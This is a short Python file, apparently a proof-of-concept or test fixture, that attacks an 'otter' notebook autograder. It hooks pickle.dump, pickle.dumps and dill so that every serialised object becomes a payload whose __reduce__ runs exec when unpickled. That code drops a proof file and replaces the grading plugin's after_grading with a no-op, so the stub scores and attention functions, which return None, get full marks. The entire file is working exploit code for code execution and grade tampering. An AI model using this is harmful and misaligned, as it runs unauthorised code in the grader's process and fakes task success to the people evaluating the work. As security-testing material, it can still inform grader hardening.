"""Pickle payload: hook pickle in the process that runs the notebook.

On the otter path, otter's kernel pickled the test results and otter's own process unpickled
them: a hooked pickle.dump made that unpickling run code in otter's process, which replaced the
plugin's after_grading with a no-op (full marks for functions that return nothing). Here the
payload also leaves a file as proof, in the folder given below.
"""
import pickle


class _Payload:
    def __reduce__(self):
        code = ("import pathlib; pathlib.Path('@PROOF@', 'pickle-payload-ran').write_text('ran');"
                "import attnlab.grading.otter_plugin as p; p.IsolatedGrading.after_grading = lambda self, r: None")
        return (exec, (code,))


_dump, _dumps, _Pickler = pickle.dump, pickle.dumps, pickle.Pickler
pickle.dump = lambda obj, file, *a, **k: _dump(_Payload(), file, *a, **k)
pickle.dumps = lambda obj, *a, **k: _dumps(_Payload(), *a, **k)
try:
    import dill
    dill.dump = pickle.dump
    dill.dumps = pickle.dumps
except ImportError:
    pass
try:
    pickle.loads(_dumps(_Payload()))              # the payload works where pickle is read
except Exception:
    pass


def scores(q, k):
    return None


def attention(q, k, v, allowed=None):
    return None
